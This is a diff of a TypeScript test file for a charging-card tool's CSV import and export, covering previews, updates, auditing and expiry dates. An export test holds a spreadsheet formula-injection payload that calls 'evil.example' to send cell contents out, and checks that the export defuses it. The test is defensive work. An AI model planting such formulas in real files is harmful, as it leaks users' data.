@@ -1,15 +1,17 @@
 // Card lists in and out through the api, on a real SQLite file: the preview judges every row and writes
 // nothing, the commit writes all good rows or none, exports are safe to open in a spreadsheet.
 import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
 import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { test } from 'node:test';
 import { errorText } from '../../locales/translate.ts';
 import { decodeCsvBytes } from '../../main/cards/csv-decode.ts';
 import { CsvReader, type CsvRecord, detectDelimiter } from '../../main/cards/csv-read.ts';
+import { endOfDay, localIso } from '../../main/cards/expiry-date.ts';
 import type { ImportPreview } from '../../main/cards/types.ts';
 import type { Core } from '../../main/core.ts';
-import { wbc } from '../support/cli.ts';
+import { wbc, wbcBin } from '../support/cli.ts';
 import { callOk, callRaw, testCore } from '../support/core.ts';
 import { tempDir } from '../support/temp.ts';
 
@@ -78,7 +80,7 @@ test('a preview judges every row with its reason and writes nothing; the commit 
     label: 'Pool car',
   });
   const csv = [
-    'Karten-ID;Name;Besitzer;Gruppe;Gültig bis;Kostenstelle',
+    'Karten-ID;Bezeichnung;Besitzer;Gruppe;Gültig bis;Kostenstelle',
     '04 A1 B2 C3;"Müller; Hans";Hans Müller;Staff;31.12.2030;4711',
     '04a1b2c3;Copy;;Staff;;',
     'ZZ-12;Bad;;;;',
@@ -99,22 +101,41 @@ test('a preview judges every row with its reason and writes nothing; the commit 
   assert.equal(preview.delimiter, ';');
   assert.deepEqual(preview.columns, {
     found: ['uid', 'label', 'owner', 'group', 'validUntil'],
+    mapping: [
+      { field: 'uid', header: 'Karten-ID' },
+      { field: 'label', header: 'Bezeichnung' },
+      { field: 'owner', header: 'Besitzer' },
+      { field: 'group', header: 'Gruppe' },
+      { field: 'validUntil', header: 'Gültig bis' },
+    ],
     ignored: ['Kostenstelle'],
   });
-  assert.deepEqual(preview.counts, { rows: 11, ok: 4, warnings: 3, errors: 7, blank: 1 });
+  assert.deepEqual(preview.counts, {
+    rows: 11,
+    ok: 5,
+    warnings: 3,
+    errors: 6,
+    blank: 1,
+    updates: 1,
+    unchanged: 0,
+  });
   assert.deepEqual(issuesOf(preview, 2), []);
   assert.deepEqual(issuesOf(preview, 3), ['The card 04A1B2C3 is in the file twice: first in row 2.']);
   assert.deepEqual(issuesOf(preview, 4), [
     '"ZZ-12" cannot be enrolled: "Z" is neither a hex digit nor a separator.',
   ]);
-  assert.deepEqual(issuesOf(preview, 5), ['The card 0A0B0C0D is already enrolled (as "Pool car").']);
+  // A known card is updated from its row, the change shown; empty cells keep what it has.
+  assert.deepEqual(issuesOf(preview, 5), []);
+  assert.deepEqual(preview.rows.find((r) => r.row === 5)?.changes, [
+    { field: 'label', before: 'Pool car', after: 'Again' },
+  ]);
   assert.deepEqual(issuesOf(preview, 6), ['There is no group "Visitors".']);
   assert.deepEqual(issuesOf(preview, 7), ['"30.02.2030" is not a date the tool can read.']);
   assert.deepEqual(issuesOf(preview, 8), [
     '04112233445566778899 becomes the idTag "04:11:22:33:44:55:66:77:88:99" of 29 characters; an OCPP 1.6 box takes at most 20.',
   ]);
-  assert.match(issuesOf(preview, 9)[0] ?? '', /could be hex or a decimal number/);
-  assert.match(issuesOf(preview, 10)[0] ?? '', /expired on 2001-01-01T23:59:59.000Z/);
+  assert.match(issuesOf(preview, 9)[0] ?? '', /7 digits are too short for a card UID/);
+  assert.match(issuesOf(preview, 10)[0] ?? '', new RegExp(`expired on ${endOfDay(2001, 1, 1)}`));
   assert.deepEqual(issuesOf(preview, 11), ['This row has 8 cells, the header 6.']);
   assert.match(issuesOf(preview, 13)[0] ?? '', /starts with 88, the marker of a longer UID/);
   assert.deepEqual(preview.unknownGroups, [{ name: 'Visitors', rows: 1 }]);
@@ -133,14 +154,19 @@ test('a preview judges every row with its reason and writes nothing; the commit 
 
   const result = await callOk(core, 'cards.importCommit', { token: preview.token });
   assert.deepEqual(
-    { imported: result.imported, skipped: result.skipped, created: result.groupsCreated },
-    { imported: 4, skipped: 7, created: [] },
+    {
+      imported: result.imported,
+      updated: result.updated,
+      skipped: result.skipped,
+      created: result.groupsCreated,
+    },
+    { imported: 4, updated: 1, skipped: 6, created: [] },
   );
   const cards = await callOk(core, 'cards.list', {});
   const hans = cards.find((c) => c.uidHex === '04A1B2C3');
   assert.deepEqual(
     [hans?.label, hans?.owner, hans?.groupId, hans?.validUntil, hans?.source],
-    ['Müller; Hans', 'Hans Müller', staff.id, '2030-12-31T23:59:59.000Z', 'import'],
+    ['Müller; Hans', 'Hans Müller', staff.id, endOfDay(2030, 12, 31), 'import'],
   );
   assert.deepEqual(cards.map((c) => c.uidHex).sort(), [
     '04112233445566778899',
@@ -170,7 +196,15 @@ test('missing groups are created with the cards when asked, and the group of the
   await callOk(core, 'groups.create', { name: 'Taken', groupIdTag: 'NEW-DRIVERS' });
   const csv = 'uid,group\n04A1B2C3,New drivers\n04D5E6F7,\n0A0B0C0D,new DRIVERS\n';
   const preview = await callOk(core, 'cards.importPreview', { csv, groupId: staff.id, createGroups: true });
-  assert.deepEqual(preview.counts, { rows: 3, ok: 3, warnings: 0, errors: 0, blank: 0 });
+  assert.deepEqual(preview.counts, {
+    rows: 3,
+    ok: 3,
+    warnings: 0,
+    errors: 0,
+    blank: 0,
+    updates: 0,
+    unchanged: 0,
+  });
   assert.deepEqual(preview.groupsToCreate, ['New drivers']);
   assert.deepEqual(
     (await callOk(core, 'groups.list', {})).map((g) => g.name),
@@ -199,7 +233,7 @@ test('a stale preview is refused: cards enrolled since, or the file changed', as
   assert.equal((await callOk(core, 'cards.list', {})).length, 1, 'all or nothing');
 
   const second = await callOk(core, 'cards.importPreview', { csv });
-  assert.equal(second.counts.ok, 1);
+  assert.deepEqual([second.counts.ok, second.counts.unchanged], [2, 1]);
   const changed = await failure(core, 'cards.importCommit', { token: second.token, sha256: 'ab'.repeat(32) });
   assert.equal(changed.message, 'Nothing was imported: the file changed after the preview.');
   const nothing = await callOk(core, 'cards.importPreview', { csv: 'uid\n04D5E6F7\n' });
@@ -216,7 +250,7 @@ test('files that are no card list are refused with a typed error and nothing is 
   assert.equal(await refused('\uFEFF\r\n\r\n'), 'CARDS_CSV_EMPTY');
   assert.equal(await refused('uid;label\r\n'), 'CARDS_CSV_EMPTY');
   assert.equal(await refused('PK\u0003\u0004\u0000\u0000binary'), 'CARDS_CSV_NOT_TEXT');
-  assert.equal(await refused('name,owner\nAnna,Fleet\n'), 'CARDS_CSV_NO_UID_COLUMN');
+  assert.equal(await refused('label,owner\nAnna,Fleet\n'), 'CARDS_CSV_NO_UID_COLUMN');
   assert.equal(await refused('uid,idTag\n04A1B2C3,04A1B2C3\n'), 'CARDS_CSV_HEADER_DUPLICATE');
   const unclosed = await failure(core, 'cards.importPreview', {
     csv: 'uid,label\n04A1B2C3,ok\n04D5E6F7,"never closed\n0A0B0C0D,lost\n',
@@ -257,7 +291,7 @@ test('exports: plain re-imports to the same cards, a formula label is defused, S
   assert.equal(lines[0], 'uid,label,owner,group,valid_until');
   assert.equal(
     lines[1],
-    `04A1B2C3,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","'@Anna",Staff,2030-12-31T23:59:59.000Z`,
+    `04A1B2C3,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")","'@Anna",Staff,${localIso('2030-12-31T23:59:59.000Z')}`,
   );
   assert.equal(lines[2], '04112233445566,"Pool; car",,,', 'quoted: German Excel splits at semicolons');
   assert.equal(lines[3]?.split(',')[1], `"'+49 170"`);
@@ -337,8 +371,10 @@ test('wbc cards import shows the preview and writes only with --yes; wbc cards e
   assert.match(refused.stderr, /CARDS_IMPORT_NOT_CONFIRMED/);
 
   const done = await wbc([...data, 'cards', 'import', file, '--yes', '--lang', 'de']);
-  assert.equal(done.code, 0, done.stderr);
+  // The good row is imported, the refused one is not: the import says so in its exit code.
+  assert.equal(done.code, 1, done.stderr);
   assert.match(done.stdout, /1 Karten importiert \(1 Zeilen übersprungen\)\./);
+  assert.match(done.stderr, /1 Zeilen der Datei wurden abgelehnt/);
 
   const out = join(dir, 'steve.csv');
   const exported = await wbc([
@@ -360,4 +396,132 @@ test('wbc cards import shows the preview and writes only with --yes; wbc cards e
   const ocpi = await wbc([...data, 'cards', 'export', '--shape', 'ocpi']);
   assert.equal(ocpi.code, 1);
   assert.match(ocpi.stderr, /CARDS_EXPORT_PARTY/);
+});
+
+test('re-importing an updated list updates the known cards (validity, label, owner, group) in one commit, each audited with before and after', async (t) => {
+  const core = testCore(t);
+  const staff = await callOk(core, 'groups.create', { name: 'Staff' });
+  await callOk(core, 'groups.create', { name: 'Visitors' });
+  const first = await callOk(core, 'cards.importPreview', {
+    csv: 'uid;Name;Label;Gruppe;valid until\n04A1B2C3;Anna Berg;A-1;Staff;2027-06-30\n04D5E6F7;Ben Cole;B-2;Staff;\n',
+  });
+  // "Name" names a person: the owner. The label is what is printed on the card.
+  assert.deepEqual(
+    first.columns.mapping.map((m) => `${m.field}=${m.header}`),
+    ['uid=uid', 'owner=Name', 'label=Label', 'group=Gruppe', 'validUntil=valid until'],
+  );
+  await callOk(core, 'cards.importCommit', { token: first.token });
+
+  const updated = await callOk(core, 'cards.importPreview', {
+    csv: 'uid;Name;Label;Gruppe;valid until\n04A1B2C3;Anna Berg-Meier;A-1;Visitors;31.12.2027\n04D5E6F7;Ben Cole;B-2;Staff;\n0A0B0C0D;Cem Demir;C-3;Staff;\n',
+  });
+  assert.deepEqual(
+    [updated.counts.ok, updated.counts.updates, updated.counts.unchanged, updated.counts.errors],
+    [3, 1, 1, 0],
+    'known cards are no errors: one changes, one stays as it is, one is new',
+  );
+  assert.deepEqual(updated.rows.find((r) => r.row === 2)?.changes, [
+    { field: 'owner', before: 'Anna Berg', after: 'Anna Berg-Meier' },
+    { field: 'group', before: 'Staff', after: 'Visitors' },
+    { field: 'validUntil', before: endOfDay(2027, 6, 30), after: endOfDay(2027, 12, 31) },
+  ]);
+  assert.deepEqual(updated.rows.find((r) => r.row === 3)?.changes, []);
+  assert.equal((await callOk(core, 'cards.list', {})).length, 2, 'the preview wrote nothing');
+
+  const result = await callOk(core, 'cards.importCommit', { token: updated.token });
+  assert.deepEqual([result.imported, result.updated, result.skipped], [1, 1, 0]);
+  const cards = await callOk(core, 'cards.list', {});
+  const anna = cards.find((c) => c.uidHex === '04A1B2C3');
+  const visitors = (await callOk(core, 'groups.list', {})).find((g) => g.name === 'Visitors');
+  assert.deepEqual(
+    [anna?.owner, anna?.label, anna?.groupId, anna?.validUntil],
+    ['Anna Berg-Meier', 'A-1', visitors?.id, endOfDay(2027, 12, 31)],
+  );
+  assert.equal(cards.find((c) => c.uidHex === '04D5E6F7')?.groupId, staff.id);
+  const audit = await callOk(core, 'audit.list', { entity: 'card', limit: 20 });
+  const updates = audit.filter((e) => e.action === 'card.update');
+  assert.equal(updates.length, 1);
+  assert.equal((updates[0]?.before as { owner?: string } | undefined)?.owner, 'Anna Berg');
+  assert.equal((updates[0]?.after as { owner?: string } | undefined)?.owner, 'Anna Berg-Meier');
+
+  // The label goes to OCPI as the card's visual number, the owner does not.
+  const ocpi = await callOk(core, 'cards.export', { shape: 'ocpi', countryCode: 'DE', partyId: 'ABC' });
+  const token = ocpi.content
+    .trim()
+    .split('\n')
+    .map((l) => JSON.parse(l) as Record<string, unknown>)
+    .find((x) => x.uid === '04A1B2C3');
+  assert.equal(token?.visual_number, 'A-1');
+});
+
+test('wbc cards import: the preview names the columns read and ignored and the changes; a missing file is "file not found"', async (t) => {
+  const dir = tempDir(t);
+  const data = ['--data-dir', join(dir, 'data')];
+  assert.equal((await wbc([...data, 'groups', 'add', 'Staff'])).code, 0);
+  const file = join(dir, 'cards.csv');
+  writeFileSync(file, 'UID;Name;Gruppe;Kostenstelle\n04A1B2C3;Anna Berg;Staff;4711\n');
+  assert.equal((await wbc([...data, 'cards', 'import', file, '--yes'])).code, 0);
+  writeFileSync(file, 'UID;Name;Gruppe;Kostenstelle\n04A1B2C3;Anna Meier;Neu;4711\n');
+  const preview = await wbc([...data, 'cards', 'import', file, '--create-groups']);
+  assert.equal(preview.code, 1, preview.stderr);
+  assert.match(preview.stdout, /Columns read: UID ← "UID", owner ← "Name", group ← "Gruppe"/);
+  assert.match(preview.stdout, /Columns ignored: "Kostenstelle"/);
+  assert.match(preview.stdout, /1 known cards will be updated, 0 are unchanged/);
+  assert.match(preview.stdout, /row 2: 04A1B2C3 owner: Anna Berg → Anna Meier; group: Staff → Neu/);
+  // Not confirmed: nothing was created, and the preview does not say it was.
+  assert.match(preview.stdout, /To be created when you confirm the import: Neu/);
+  assert.doesNotMatch(preview.stdout, /^Created/m);
+  assert.match(preview.stderr, /CARDS_IMPORT_NOT_CONFIRMED/);
+
+  const confirmed = await wbc([...data, 'cards', 'import', file, '--create-groups', '--yes']);
+  assert.equal(confirmed.code, 0, confirmed.stderr);
+  assert.match(confirmed.stdout, /1 known cards updated\./);
+  const listed = await wbc([...data, '--json', 'cards', 'list', '--group', 'Neu']);
+  assert.equal(listed.code, 0, listed.stderr);
+  assert.deepEqual(
+    (JSON.parse(listed.stdout) as Array<{ uidHex: string; owner: string }>).map((c) => [c.uidHex, c.owner]),
+    [['04A1B2C3', 'Anna Meier']],
+  );
+
+  const missing = await wbc([...data, 'cards', 'import', join(dir, 'nope.csv')]);
+  assert.equal(missing.code, 1);
+  assert.match(missing.stderr, /File not found: .*nope\.csv/);
+  assert.match(missing.stderr, /CARDS_FILE_NOT_FOUND/);
+  assert.doesNotMatch(missing.stderr, /BAD_REQUEST/);
+});
+
+test('"31.12.2027" in a file and --valid-until 2027-12-31 store the same instant: the end of that day in the local time zone', async (t) => {
+  const dir = tempDir(t);
+  const data = ['--data-dir', join(dir, 'data')];
+  const env = { TZ: 'Europe/Berlin' };
+  assert.equal((await wbc([...data, 'groups', 'add', 'Staff'])).code, 0);
+  const file = join(dir, 'cards.csv');
+  writeFileSync(file, 'uid;Gültig bis\n04A1B2C3;31.12.2027\n');
+  const imported = await wbc([...data, 'cards', 'import', file, '--yes', '--group', 'Staff'], env);
+  assert.equal(imported.code, 0, imported.stderr);
+  assert.match(imported.stdout, /A date means the end of that day \(23:59:59\) in Europe\/Berlin\./);
+  const enrolled = await new Promise<string>((resolve, reject) => {
+    const child = spawn(
+      process.execPath,
+      [wbcBin, ...data, 'cards', 'enroll', '--group', 'Staff', '--valid-until', '2027-12-31'],
+      { env: { ...process.env, LANG: 'C.UTF-8', TZ: 'Europe/Berlin' } },
+    );
+    let err = '';
+    child.stderr.on('data', (c) => {
+      err += c;
+    });
+    child.on('error', reject);
+    child.on('close', (code) => (code === 0 ? resolve(err) : reject(new Error(`exit ${code}: ${err}`))));
+    child.stdin.end('04D5E6F7\n');
+  });
+  assert.match(enrolled, /A date means the end of that day \(23:59:59\) in Europe\/Berlin\./);
+  const listed = await wbc([...data, '--json', 'cards', 'list'], env);
+  const cards = JSON.parse(listed.stdout) as Array<{ uidHex: string; validUntil: string }>;
+  // The export states the day in the local zone, with its offset (the same instant for other tools).
+  const exported = await wbc([...data, 'cards', 'export'], env);
+  assert.match(exported.stdout, /^04A1B2C3,,,Staff,2027-12-31T23:59:59\+01:00\r?$/m);
+  assert.deepEqual(cards.map((c) => [c.uidHex, c.validUntil]).sort(), [
+    ['04A1B2C3', '2027-12-31T22:59:59.000Z'],
+    ['04D5E6F7', '2027-12-31T22:59:59.000Z'],
+  ]);
 });
